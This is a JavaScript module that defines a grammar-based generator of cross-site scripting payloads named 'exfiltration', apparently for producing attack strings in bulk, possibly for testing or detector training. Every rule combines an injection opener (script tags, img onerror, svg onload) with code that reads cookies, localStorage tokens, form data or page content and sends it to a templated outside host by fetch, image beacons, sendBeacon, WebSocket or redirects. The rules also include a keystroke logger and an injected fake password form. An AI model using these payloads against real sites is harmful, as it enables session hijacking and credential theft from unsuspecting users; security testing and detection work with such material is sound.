import { DATA, DOUBLE, RCDATA, SINGLE } from '../context.js';
import { xssGenerator } from '../xss-generator.js';

/** What attackers really want: cookies, storage, forms, keys, sent elsewhere. */
export const exfiltration = xssGenerator({
  name: 'exfiltration',
  contexts: [DATA, DATA, DOUBLE, SINGLE, ...RCDATA],
  rules: {
    start: [
      '{open}<script>{theft}</script>',
      '{open}<script>{theft};</script>',
      '{open}<img src=x onerror="{theft}">',
      '{open}<svg onload="{theft}">',
      '{open}<script>(async()=>{{theft}})()</script>',
      '{open}<script>setTimeout(function(){{theft}},{digit})</script>',
      '{open}<body onload="{theft}">',
    ],
    data: [
      'document.cookie',
      'btoa(document.cookie)',
      'encodeURIComponent(document.cookie)',
      "localStorage.getItem('token')",
      'JSON.stringify(localStorage)',
      'document.body.innerHTML',
      'document.forms[0]',
      'escape(document.cookie)',
      'sessionStorage.token',
    ],
    theft: [
      "fetch('https://{host}/?c='+{data})",
      "fetch('//{host}',{method:'POST',body:{data}})",
      "new Image().src='http://{host}/c.php?'+{data}",
      "document.location='http://{host}/'+{data}",
      "location.href='//{host}?'+{data}",
      "var x=new XMLHttpRequest();x.open('GET','//{host}/?'+{data});x.send()",
      "navigator.sendBeacon('//{host}/',{data})",
      "document.write('<img src=//{host}/?'+{data}+'>')",
      "window.open('//{host}/?'+{data})",
      "var i=document.createElement('img');i.src='//{host}/'+{data}",
      "document.onkeypress=function(e){fetch('//{host}/?k='+e.key)};fetch('//{host}/?'+{data})",
      "fetch('/account').then(r=>r.text()).then(t=>fetch('//{host}/',{method:'POST',body:t}))",
      "new WebSocket('ws://{host}/'+{data})",
      "import('//{host}/'+{data})",
      "document.body.innerHTML='<form action=//{host}><input name=password>'+{data}",
    ],
  },
});
